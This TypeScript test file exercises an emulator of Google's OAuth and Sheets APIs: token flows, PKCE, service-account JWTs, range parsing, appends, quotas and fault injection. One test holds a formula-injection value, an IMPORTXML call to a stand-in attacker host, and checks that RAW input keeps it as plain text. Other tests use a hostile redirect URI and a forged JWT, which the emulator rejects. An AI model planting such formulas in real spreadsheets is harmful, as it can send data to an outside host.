import { createHash, createSign, generateKeyPairSync, type KeyObject } from 'node:crypto';
import {
  DEFAULT_CLIENT_ID,
  DEFAULT_CLIENT_SECRET,
  JWT_BEARER,
  SHEETS_SCOPE,
  parseA1,
  startGoogleEmulator,
  type GoogleCounters,
  type GoogleEmulator,
  type GoogleTokenResponse,
} from './google-emulator';

const REDIRECT = 'http://127.0.0.1:3000/connectors/google/callback';
const SA_EMAIL = 'hub@project.iam.gserviceaccount.com';

interface GoogleErrorBody {
  error: {
    code: number;
    message: string;
    status: string;
    errors?: Array<{ reason: string }>;
    details?: Array<{ reason: string; metadata: Record<string, string> }>;
  };
}

interface ValueRangeBody {
  range: string;
  majorDimension: string;
  values?: unknown[][];
}

interface AppendBody {
  spreadsheetId: string;
  tableRange?: string;
  updates: { updatedRange: string; updatedRows?: number; updatedCells?: number };
}

function signJwt(claims: Record<string, unknown>, key: KeyObject, kid = 'key-1'): string {
  const encode = (v: object): string => Buffer.from(JSON.stringify(v)).toString('base64url');
  const input = `${encode({ alg: 'RS256', typ: 'JWT', kid })}.${encode(claims)}`;
  return `${input}.${createSign('RSA-SHA256').update(input).sign(key).toString('base64url')}`;
}

describe('parseA1', () => {
  it('parses the simple A1 forms', () => {
    expect(parseA1('Sheet1!A1:Z')).toEqual({
      sheet: 'Sheet1',
      startRow: 0,
      startCol: 0,
      endRow: undefined,
      endCol: 25,
    });
    expect(parseA1('Sheet1!A5:F5')).toEqual({
      sheet: 'Sheet1',
      startRow: 4,
      startCol: 0,
      endRow: 4,
      endCol: 5,
    });
    expect(parseA1('Sheet1!A:A')).toMatchObject({ startRow: 0, endRow: undefined, endCol: 0 });
    expect(parseA1("'My ''big'' sheet'!B2")).toEqual({
      sheet: "My 'big' sheet",
      startRow: 1,
      startCol: 1,
      endRow: 1,
      endCol: 1,
    });
    expect(parseA1('Orders')).toEqual({ sheet: 'Orders', startRow: 0, startCol: 0 });
    expect(parseA1('A1:B2')).toEqual({ startRow: 0, startCol: 0, endRow: 1, endCol: 1 });
    expect(parseA1('Sheet1!5:5')).toMatchObject({
      startRow: 4,
      endRow: 4,
      startCol: 0,
      endCol: undefined,
    });
    expect(parseA1('Sheet1!A0')).toBeUndefined();
  });
});

describe('Google emulator', () => {
  let g: GoogleEmulator;
  let saKey: { publicKey: KeyObject; privateKey: KeyObject };

  beforeAll(async () => {
    g = await startGoogleEmulator({ client: { redirectUris: [REDIRECT] } });
    saKey = generateKeyPairSync('rsa', { modulusLength: 2048 });
  });
  afterAll(() => g.close());
  beforeEach(() => g.reset());

  const form = (url: string, body: Record<string, string>, headers: Record<string, string> = {}) =>
    fetch(url, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers },
      body: new URLSearchParams(body).toString(),
    });

  const authUrl = (params: Record<string, string>): string =>
    `${g.endpoints.authorize}?${new URLSearchParams({
      client_id: DEFAULT_CLIENT_ID,
      redirect_uri: REDIRECT,
      response_type: 'code',
      scope: `${SHEETS_SCOPE} email`,
      ...params,
    }).toString()}`;

  const location = async (url: string): Promise<URL> => {
    const res = await fetch(url, { redirect: 'manual' });
    expect(res.status).toBe(302);
    return new URL(res.headers.get('location') ?? '');
  };

  const exchange = (code: string, extra: Record<string, string> = {}) =>
    form(g.endpoints.token, {
      code,
      client_id: DEFAULT_CLIENT_ID,
      client_secret: DEFAULT_CLIENT_SECRET,
      redirect_uri: REDIRECT,
      grant_type: 'authorization_code',
      ...extra,
    });

  const refresh = (token: string) =>
    form(g.endpoints.token, {
      refresh_token: token,
      client_id: DEFAULT_CLIENT_ID,
      client_secret: DEFAULT_CLIENT_SECRET,
      grant_type: 'refresh_token',
    });

  const sheets = (path: string, token: string, init: RequestInit = {}) =>
    fetch(`${g.url}${path}`, {
      ...init,
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    });

  const json = async <T>(res: Response): Promise<T> => (await res.json()) as T;

  describe('OAuth', () => {
    it('runs consent → code → tokens, with userinfo and tokeninfo giving the e-mail', async () => {
      const page = await fetch(
        authUrl({
          access_type: 'offline',
          prompt: 'consent',
          state: 'st-1',
          scope: `openid email ${SHEETS_SCOPE}`,
        }),
      );
      expect(page.status).toBe(200);
      const html = await page.text();
      expect(html).toContain('/o/oauth2/v2/auth/approve');

      const params = new URL(
        authUrl({
          access_type: 'offline',
          prompt: 'consent',
          state: 'st-1',
          scope: `openid email ${SHEETS_SCOPE}`,
        }),
      ).searchParams;
      const decision = await fetch(`${g.url}/o/oauth2/v2/auth/approve`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: `${params.toString()}&email=owner%40example.com&decision=allow`,
        redirect: 'manual',
      });
      expect(decision.status).toBe(302);
      const back = new URL(decision.headers.get('location') ?? '');
      expect(`${back.origin}${back.pathname}`).toBe(REDIRECT);
      expect(back.searchParams.get('state')).toBe('st-1');
      expect(back.searchParams.get('scope')).toContain(SHEETS_SCOPE);

      const res = await exchange(back.searchParams.get('code') ?? '');
      expect(res.status).toBe(200);
      const tokens = await json<GoogleTokenResponse>(res);
      expect(tokens).toMatchObject({
        expires_in: 3599,
        token_type: 'Bearer',
        refresh_token: expect.any(String),
        id_token: expect.any(String),
      });
      expect(tokens.scope?.split(' ')).toEqual(
        expect.arrayContaining([
          SHEETS_SCOPE,
          'https://www.googleapis.com/auth/userinfo.email',
          'openid',
        ]),
      );
      const idClaims = JSON.parse(
        Buffer.from((tokens.id_token ?? '').split('.')[1], 'base64url').toString(),
      ) as Record<string, unknown>;
      expect(idClaims).toMatchObject({ aud: DEFAULT_CLIENT_ID, email: 'owner@example.com' });

      const info = await fetch(`${g.url}/oauth2/v3/userinfo`, {
        headers: { authorization: `Bearer ${tokens.access_token}` },
      });
      expect(await info.json()).toMatchObject({ email: 'owner@example.com', email_verified: true });
      const tokenInfo = await json<Record<string, string>>(
        await fetch(`${g.endpoints.tokenInfo}?access_token=${tokens.access_token}`),
      );
      expect(tokenInfo).toMatchObject({
        email: 'owner@example.com',
        access_type: 'offline',
        aud: DEFAULT_CLIENT_ID,
      });
    });

    it('returns a refresh token only on first offline consent or with prompt=consent', async () => {
      g.setAutoApprove(true);
      const codeOf = async (p: Record<string, string>): Promise<string> =>
        (await location(authUrl(p))).searchParams.get('code') ?? '';
      const online = await json<GoogleTokenResponse>(await exchange(await codeOf({})));
      expect(online.refresh_token).toBeUndefined();
      const first = await json<GoogleTokenResponse>(
        await exchange(await codeOf({ access_type: 'offline' })),
      );
      expect(first.refresh_token).toEqual(expect.any(String));
      const again = await json<GoogleTokenResponse>(
        await exchange(await codeOf({ access_type: 'offline' })),
      );
      expect(again.refresh_token).toBeUndefined();
      const forced = await json<GoogleTokenResponse>(
        await exchange(await codeOf({ access_type: 'offline', prompt: 'consent' })),
      );
      expect(forced.refresh_token).toEqual(expect.any(String));
      expect(g.counters().refreshTokensIssued).toBe(2);
    });

    it('validates the authorize request before redirecting', async () => {
      expect((await fetch(authUrl({ client_id: 'nope' }))).status).toBe(401);
      expect((await fetch(authUrl({ redirect_uri: 'http://evil/cb' }))).status).toBe(400);
      expect((await fetch(authUrl({ scope: '' }))).status).toBe(400);
      expect(
        (await fetch(authUrl({ scope: 'https://www.googleapis.com/auth/bogus' }))).status,
      ).toBe(400);
      const none = await location(authUrl({ prompt: 'none', state: 'q' }));
      expect(none.searchParams.get('error')).toBe('consent_required');
      g.setAutoApprove({ deny: true });
      expect((await location(authUrl({ state: 'q' }))).searchParams.get('error')).toBe(
        'access_denied',
      );
    });

    it('rejects used codes, wrong redirect URIs and bad clients; accepts Basic auth and PKCE', async () => {
      const { code } = g.authorize({ scope: 'spreadsheets', redirectUri: REDIRECT });
      expect(await json(await exchange(code ?? '', { redirect_uri: 'http://other/cb' }))).toEqual({
        error: 'redirect_uri_mismatch',
        error_description: 'Bad Request',
      });
      expect((await exchange(code ?? '')).status).toBe(200);
      expect(await json(await exchange(code ?? ''))).toEqual({
        error: 'invalid_grant',
        error_description: 'Bad Request',
      });
      const bad = await exchange(
        g.authorize({ scope: 'spreadsheets', redirectUri: REDIRECT }).code ?? '',
        { client_secret: 'x' },
      );
      expect(bad.status).toBe(401);
      expect(await json(bad)).toMatchObject({ error: 'invalid_client' });

      const basic = Buffer.from(`${DEFAULT_CLIENT_ID}:${DEFAULT_CLIENT_SECRET}`).toString('base64');
      const viaBasic = await form(
        g.endpoints.token,
        {
          code: g.authorize({ scope: 'spreadsheets', redirectUri: REDIRECT }).code ?? '',
          redirect_uri: REDIRECT,
          grant_type: 'authorization_code',
        },
        { authorization: `Basic ${basic}` },
      );
      expect(viaBasic.status).toBe(200);

      g.setAutoApprove(true);
      const verifier = 'v'.repeat(50);
      const challenge = createHash('sha256').update(verifier).digest('base64url');
      const pkceCode =
        (
          await location(authUrl({ code_challenge: challenge, code_challenge_method: 'S256' }))
        ).searchParams.get('code') ?? '';
      expect(await json(await exchange(pkceCode, { code_verifier: 'wrong' }))).toMatchObject({
        error: 'invalid_grant',
      });
      const pkceCode2 =
        (
          await location(authUrl({ code_challenge: challenge, code_challenge_method: 'S256' }))
        ).searchParams.get('code') ?? '';
      expect((await exchange(pkceCode2, { code_verifier: verifier })).status).toBe(200);
    });

    it('does not rotate refresh tokens; revoked ones give invalid_grant; /revoke drops the grant', async () => {
      const tokens = g.issueTokens();
      const r1 = await json<GoogleTokenResponse>(await refresh(tokens.refresh_token ?? ''));
      expect(r1.refresh_token).toBeUndefined();
      expect(r1.access_token).not.toBe(tokens.access_token);
      expect((await refresh(tokens.refresh_token ?? '')).status).toBe(200);

      expect(g.revokeRefreshToken(tokens.refresh_token)).toBe(1);
      const dead = await refresh(tokens.refresh_token ?? '');
      expect(dead.status).toBe(400);
      expect(await dead.json()).toEqual({
        error: 'invalid_grant',
        error_description: 'Token has been expired or revoked.',
      });
      expect(await json(await refresh('1//unknown'))).toMatchObject({ error: 'invalid_grant' });

      g.setAutoApprove(true);
      const code =
        (await location(authUrl({ access_type: 'offline' }))).searchParams.get('code') ?? '';
      const fresh = await json<GoogleTokenResponse>(await exchange(code));
      expect(fresh.refresh_token).toEqual(expect.any(String));
      expect((await form(g.endpoints.revoke, { token: fresh.access_token })).status).toBe(200);
      expect((await refresh(fresh.refresh_token ?? '')).status).toBe(400);
      const code2 =
        (await location(authUrl({ access_type: 'offline' }))).searchParams.get('code') ?? '';
      expect((await json<GoogleTokenResponse>(await exchange(code2))).refresh_token).toEqual(
        expect.any(String),
      );
    });

    it('grants service-account tokens for RS256 JWTs signed with a registered key', async () => {
      g.registerServiceAccount({
        clientEmail: SA_EMAIL,
        publicKey: saKey.publicKey,
        privateKeyId: 'key-1',
      });
      const now = Math.floor(Date.now() / 1000);
      const claims = {
        iss: SA_EMAIL,
        scope: SHEETS_SCOPE,
        aud: 'https://oauth2.googleapis.com/token',
        iat: now,
        exp: now + 3600,
      };
      const ok = await form(g.endpoints.token, {
        grant_type: JWT_BEARER,
        assertion: signJwt(claims, saKey.privateKey),
      });
      expect(ok.status).toBe(200);
      const token = await json<GoogleTokenResponse>(ok);
      expect(token).toEqual({
        access_token: expect.any(String),
        expires_in: 3599,
        token_type: 'Bearer',
      });

      const other = generateKeyPairSync('rsa', { modulusLength: 1024 }).privateKey;
      const forged = await form(g.endpoints.token, {
        grant_type: JWT_BEARER,
        assertion: signJwt(claims, other),
      });
      expect(await json(forged)).toEqual({
        error: 'invalid_grant',
        error_description: 'Invalid JWT Signature.',
      });
      const long = await form(g.endpoints.token, {
        grant_type: JWT_BEARER,
        assertion: signJwt({ ...claims, exp: now + 7200 }, saKey.privateKey),
      });
      expect(await json(long)).toMatchObject({ error: 'invalid_grant' });
      expect(g.counters().jwtBearerGrants).toBe(1);

      const shared = g.createSpreadsheet({ title: 'Shared', sharedWith: [SA_EMAIL] });
      const hidden = g.createSpreadsheet({ title: 'Private', sharedWith: ['someone@example.com'] });
      expect(
        (await sheets(`/v4/spreadsheets/${shared.spreadsheetId}`, token.access_token)).status,
      ).toBe(200);
      const denied = await sheets(`/v4/spreadsheets/${hidden.spreadsheetId}`, token.access_token);
      expect(denied.status).toBe(403);
      expect((await json<GoogleErrorBody>(denied)).error).toMatchObject({
        message: 'The caller does not have permission',
        status: 'PERMISSION_DENIED',
      });
    });
  });

  describe('Sheets API', () => {
    let token: string;
    let id: string;
    beforeEach(() => {
      token = g.issueTokens().access_token;
      id = g.createSpreadsheet({
        title: 'Payments',
        sheets: [
          {
            title: 'Sheet1',
            header: ['order_id', 'amount', 'currency', 'status', 'paid_at', 'note'],
          },
          { title: 'Other sheet' },
        ],
      }).spreadsheetId;
    });

    const range = (r: string): string => encodeURIComponent(r);

    it('gets the spreadsheet and appends rows after the table (INSERT_ROWS)', async () => {
      const meta = await json<{
        sheets: Array<{ properties: { title: string; gridProperties: { rowCount: number } } }>;
      }>(await sheets(`/v4/spreadsheets/${id}`, token));
      expect(meta.sheets.map((s) => s.properties.title)).toEqual(['Sheet1', 'Other sheet']);

      const appendRow = (values: unknown[][]) =>
        sheets(
          `/v4/spreadsheets/${id}/values/${range('Sheet1!A:F')}:append?valueInputOption=RAW&insertDataOption=INSERT_ROWS`,
          token,
          { method: 'POST', body: JSON.stringify({ values }) },
        );
      const first = await json<AppendBody>(
        await appendRow([['order-1', 500, 'AMD', 'paid', '2024-05-01', null]]),
      );
      expect(first).toEqual({
        spreadsheetId: id,
        tableRange: 'Sheet1!A1:F1',
        updates: {
          spreadsheetId: id,
          updatedRange: 'Sheet1!A2:F2',
          updatedRows: 1,
          updatedColumns: 6,
          updatedCells: 5,
        },
      });
      const second = await json<AppendBody>(
        await appendRow([['order-2', 700, 'AMD', 'paid', '2024-05-02', 'x']]),
      );
      expect(second.updates.updatedRange).toBe('Sheet1!A3:F3');
      expect(second.tableRange).toBe('Sheet1!A1:F2');
      expect(g.readCells(id)).toEqual([
        ['order_id', 'amount', 'currency', 'status', 'paid_at', 'note'],
        ['order-1', 500, 'AMD', 'paid', '2024-05-01'],
        ['order-2', 700, 'AMD', 'paid', '2024-05-02', 'x'],
      ]);
      const unencoded = await sheets(
        `/v4/spreadsheets/${id}/values/Sheet1!A:F:append?valueInputOption=USER_ENTERED`,
        token,
        { method: 'POST', body: JSON.stringify({ values: [['order-3', '42.50', 'AMD', 'TRUE']] }) },
      );
      expect((await json<AppendBody>(unencoded)).updates.updatedRange).toBe('Sheet1!A4:D4');
      expect(g.readCells(id, 'Sheet1!B4:D4')).toEqual([[42.5, 'AMD', true]]);
      expect(g.counters()).toMatchObject({ appends: 3, writeRequests: 3 });
    });

    it('INSERT_ROWS shifts what is below the table; OVERWRITE does not', async () => {
      g.setCells(id, 'Sheet1!A2:B2', [['order-1', 1]]);
      g.setCells(id, 'Sheet1!A4:B4', [['stray', 9]]);
      const appendRow = (insert: string, values: unknown[][]) =>
        sheets(
          `/v4/spreadsheets/${id}/values/${range('Sheet1!A1:F')}:append?valueInputOption=RAW&insertDataOption=${insert}`,
          token,
          { method: 'POST', body: JSON.stringify({ values }) },
        );
      const inserted = await json<AppendBody>(await appendRow('INSERT_ROWS', [['order-2', 2]]));
      expect(inserted).toMatchObject({
        tableRange: 'Sheet1!A1:F2',
        updates: { updatedRange: 'Sheet1!A3:B3' },
      });
      expect(g.readCells(id, 'Sheet1!A5')).toEqual([['stray']]);
      expect(g.listSpreadsheets()[0].sheets[0].rowCount).toBe(1001);

      const over = await json<AppendBody>(await appendRow('OVERWRITE', [['order-3', 3]]));
      expect(over.updates.updatedRange).toBe('Sheet1!A4:B4');
      expect(g.readCells(id, 'Sheet1!A4:A5')).toEqual([['order-3'], ['stray']]);
      expect(g.listSpreadsheets()[0].sheets[0].rowCount).toBe(1001);

      g.insertRows(id, 'Sheet1', 2);
      expect(g.readCells(id, 'Sheet1!A1:A3')).toEqual([['order_id'], [], ['order-1']]);
      const bad = await appendRow('SIDEWAYS', [['x']]);
      expect(bad.status).toBe(400);
    });

    it('reads with trimming, render options and COLUMNS; omits values when empty', async () => {
      g.setCells(id, 'Sheet1!A2:D3', [['order-1', 1.5, '', true], ['order-2']]);
      const rows = await json<ValueRangeBody>(
        await sheets(`/v4/spreadsheets/${id}/values/${range('Sheet1!A2:Z')}`, token),
      );
      expect(rows).toEqual({
        range: 'Sheet1!A2:Z1000',
        majorDimension: 'ROWS',
        values: [['order-1', '1.5', '', 'TRUE'], ['order-2']],
      });
      const raw = await json<ValueRangeBody>(
        await sheets(
          `/v4/spreadsheets/${id}/values/${range('Sheet1!A2:D2')}?valueRenderOption=UNFORMATTED_VALUE`,
          token,
        ),
      );
      expect(raw.values).toEqual([['order-1', 1.5, '', true]]);
      const column = await json<ValueRangeBody>(
        await sheets(`/v4/spreadsheets/${id}/values/${range('Sheet1!A:A')}`, token),
      );
      expect(column).toMatchObject({
        range: 'Sheet1!A1:A1000',
        values: [['order_id'], ['order-1'], ['order-2']],
      });
      const cols = await json<ValueRangeBody>(
        await sheets(
          `/v4/spreadsheets/${id}/values/${range('Sheet1!A1:B3')}?majorDimension=COLUMNS`,
          token,
        ),
      );
      expect(cols.values).toEqual([
        ['order_id', 'order-1', 'order-2'],
        ['amount', '1.5'],
      ]);
      const empty = await json<ValueRangeBody>(
        await sheets(`/v4/spreadsheets/${id}/values/${range("'Other sheet'!A1:C9")}`, token),
      );
      expect(empty).toEqual({ range: "'Other sheet'!A1:C9", majorDimension: 'ROWS' });
      const bad = await sheets(`/v4/spreadsheets/${id}/values/${range('Nope!A1')}`, token);
      expect(bad.status).toBe(400);
      expect((await json<GoogleErrorBody>(bad)).error).toMatchObject({
        status: 'INVALID_ARGUMENT',
        message: 'Unable to parse range: Nope!A1',
      });
      expect((await sheets(`/v4/spreadsheets/missing/values/A1`, token)).status).toBe(404);
    });

    it('updates a row in place, enforcing the range and valueInputOption', async () => {
      const put = (r: string, query: string, values: unknown[][]) =>
        sheets(`/v4/spreadsheets/${id}/values/${range(r)}${query}`, token, {
          method: 'PUT',
          body: JSON.stringify({ range: r, values }),
        });
      const ok = await put(
        'Sheet1!A5:F5',
        '?valueInputOption=USER_ENTERED&includeValuesInResponse=true',
        [['order-9', '100', 'AMD', 'refunded', '', '']],
      );
      expect(await ok.json()).toEqual({
        spreadsheetId: id,
        updatedRange: 'Sheet1!A5:F5',
        updatedRows: 1,
        updatedColumns: 6,
        updatedCells: 6,
        updatedData: {
          range: 'Sheet1!A5:F5',
          majorDimension: 'ROWS',
          values: [['order-9', '100', 'AMD', 'refunded']],
        },
      });
      const tooWide = await put('Sheet1!A5:F5', '?valueInputOption=RAW', [[1, 2, 3, 4, 5, 6, 7]]);
      expect(tooWide.status).toBe(400);
      expect((await json<GoogleErrorBody>(tooWide)).error.message).toContain(
        'tried writing to column [G]',
      );
      const noOption = await put('Sheet1!A5:F5', '', [[1]]);
      expect((await json<GoogleErrorBody>(noOption)).error.message).toBe(
        "'valueInputOption' is required but not specified",
      );
    });

    it('USER_ENTERED makes `=…` a formula (FORMULA renders it, the others compute it); RAW keeps text', async () => {
      const put = (r: string, option: string, values: unknown[][]) =>
        sheets(`/v4/spreadsheets/${id}/values/${range(r)}?valueInputOption=${option}`, token, {
          method: 'PUT',
          body: JSON.stringify({ values }),
        });
      const injected = '=IMPORTXML("https://evil.example/x", "//a")';
      expect(
        (await put('Sheet1!A2:C2', 'USER_ENTERED', [['=1+2*3', injected, "'=1+2"]])).status,
      ).toBe(200);
      expect((await put('Sheet1!A3:B3', 'RAW', [['=1+2*3', injected]])).status).toBe(200);
      const read = async (option: string) =>
        (
          await json<{ values: unknown[][] }>(
            await sheets(
              `/v4/spreadsheets/${id}/values/${range('Sheet1!A2:C3')}?valueRenderOption=${option}`,
              token,
            ),
          )
        ).values;
      expect(await read('FORMULA')).toEqual([
        ['=1+2*3', injected, '=1+2'],
        ['=1+2*3', injected],
      ]);
      expect(await read('UNFORMATTED_VALUE')).toEqual([
        [7, '#N/A', '=1+2'],
        ['=1+2*3', injected],
      ]);
      expect(await read('FORMATTED_VALUE')).toEqual([
        ['7', '#N/A', '=1+2'],
        ['=1+2*3', injected],
      ]);
      expect(g.readCells(id, 'Sheet1!A2:B2')).toEqual([[7, '#N/A']]);
    });

    it('batchGet and an all-or-nothing batchUpdate', async () => {
      const batch = (data: unknown[]) =>
        sheets(`/v4/spreadsheets/${id}/values:batchUpdate`, token, {
          method: 'POST',
          body: JSON.stringify({ valueInputOption: 'RAW', data }),
        });
      const failed = await batch([
        { range: 'Sheet1!A2:B2', values: [['a', 'b']] },
        { range: 'Sheet1!A3:A3', values: [['x', 'y']] },
      ]);
      expect(failed.status).toBe(400);
      expect(g.readCells(id, 'Sheet1!A2:B2')).toEqual([]);
      const done = await batch([
        { range: 'Sheet1!A2:B2', values: [['a', 'b']] },
        { range: "'Other sheet'!C3", values: [[7]] },
      ]);
      expect(await done.json()).toMatchObject({
        totalUpdatedRows: 2,
        totalUpdatedCells: 3,
        totalUpdatedSheets: 2,
        responses: [{ updatedRange: 'Sheet1!A2:B2' }, { updatedRange: "'Other sheet'!C3" }],
      });
      const got = await json<{ valueRanges: ValueRangeBody[] }>(
        await sheets(
          `/v4/spreadsheets/${id}/values:batchGet?ranges=${range('Sheet1!A2:B2')}&ranges=${range("'Other sheet'!C3")}&valueRenderOption=UNFORMATTED_VALUE`,
          token,
        ),
      );
      expect(got.valueRanges.map((v) => v.values)).toEqual([[['a', 'b']], [[7]]]);
    });

    it('answers 401/403 in the Google error shape', async () => {
      g.expireAccessToken(token);
      const expired = await sheets(`/v4/spreadsheets/${id}`, token);
      expect(expired.status).toBe(401);
      const body = await json<GoogleErrorBody>(expired);
      expect(body.error).toMatchObject({
        code: 401,
        status: 'UNAUTHENTICATED',
        errors: [{ reason: 'authError' }],
        details: [{ reason: 'ACCESS_TOKEN_EXPIRED' }],
      });
      expect(body.error.message).toContain('Request had invalid authentication credentials');

      const readOnly = g.issueTokens({ scopes: ['spreadsheets.readonly'] }).access_token;
      expect((await sheets(`/v4/spreadsheets/${id}/values/A1`, readOnly)).status).toBe(200);
      const write = await sheets(
        `/v4/spreadsheets/${id}/values/A1?valueInputOption=RAW`,
        readOnly,
        { method: 'PUT', body: JSON.stringify({ values: [[1]] }) },
      );
      expect(write.status).toBe(403);
      expect((await json<GoogleErrorBody>(write)).error).toMatchObject({
        status: 'PERMISSION_DENIED',
        details: [{ reason: 'ACCESS_TOKEN_SCOPE_INSUFFICIENT' }],
      });
      expect((await fetch(`${g.url}/v4/spreadsheets/${id}`)).status).toBe(403);
    });

    it('enforces the per-user write quota with RESOURCE_EXHAUSTED; it refills after a minute', async () => {
      g.setQuota({ writeRequestsPerMinutePerUser: 2 });
      const put = () =>
        sheets(`/v4/spreadsheets/${id}/values/A2?valueInputOption=RAW`, token, {
          method: 'PUT',
          body: JSON.stringify({ values: [[1]] }),
        });
      expect((await put()).status).toBe(200);
      expect((await put()).status).toBe(200);
      const limited = await put();
      expect(limited.status).toBe(429);
      const body = await json<GoogleErrorBody>(limited);
      expect(body.error.status).toBe('RESOURCE_EXHAUSTED');
      expect(body.error.message).toContain("limit 'Write requests per minute per user'");
      expect(body.error.details?.[0]).toMatchObject({
        reason: 'RATE_LIMIT_EXCEEDED',
        metadata: {
          quota_limit: 'WriteRequestsPerMinutePerUser',
          quota_metric: 'sheets.googleapis.com/write_requests',
        },
      });
      expect((await sheets(`/v4/spreadsheets/${id}/values/A1`, token)).status).toBe(200);
      g.advanceClock(61);
      expect((await put()).status).toBe(200);
      expect(g.counters().quotaExceeded).toBe(1);
    });

    it('injects 5xx before the work, or after it (a write whose answer is lost)', async () => {
      const appendRow = () =>
        sheets(
          `/v4/spreadsheets/${id}/values/${range('Sheet1!A:F')}:append?valueInputOption=RAW`,
          token,
          { method: 'POST', body: JSON.stringify({ values: [['order-1']] }) },
        );
      g.injectFaults({ status: 503 });
      const before = await appendRow();
      expect(before.status).toBe(503);
      expect((await json<GoogleErrorBody>(before)).error.status).toBe('UNAVAILABLE');
      expect(g.readCells(id)).toHaveLength(1);
      g.injectFaults({ status: 500, method: 'POST', when: 'after' });
      expect((await appendRow()).status).toBe(500);
      expect(g.readCells(id)).toHaveLength(2);
      expect((await appendRow()).status).toBe(200);
      g.injectFaults({ status: 503, scope: 'oauth' });
      expect((await refresh(g.issueTokens().refresh_token ?? '')).status).toBe(503);
    });

    it('exposes controls over HTTP', async () => {
      const post = (path: string, body: unknown) =>
        fetch(`${g.url}/_emulator${path}`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify(body),
        });
      const created = await json<{ spreadsheetId: string }>(
        await post('/spreadsheets', {
          title: 'T',
          sheets: [{ title: 'Data', header: ['a', 'b'] }],
        }),
      );
      const cells = await fetch(
        `${g.url}/_emulator/spreadsheets/${created.spreadsheetId}/cells?range=Data!A1:B1`,
      );
      expect(await cells.json()).toEqual([['a', 'b']]);
      const issued = await json<GoogleTokenResponse>(
        await post('/tokens', { email: 'x@example.com' }),
      );
      expect(await json(await post('/tokens/expire', { token: issued.access_token }))).toEqual({
        expired: 1,
      });
      const counters = await json<GoogleCounters>(await fetch(`${g.url}/_emulator/counters`));
      expect(counters.refreshTokensIssued).toBe(2);
      await post('/reset', {});
      expect(g.listSpreadsheets()).toHaveLength(0);
    });
  });
});
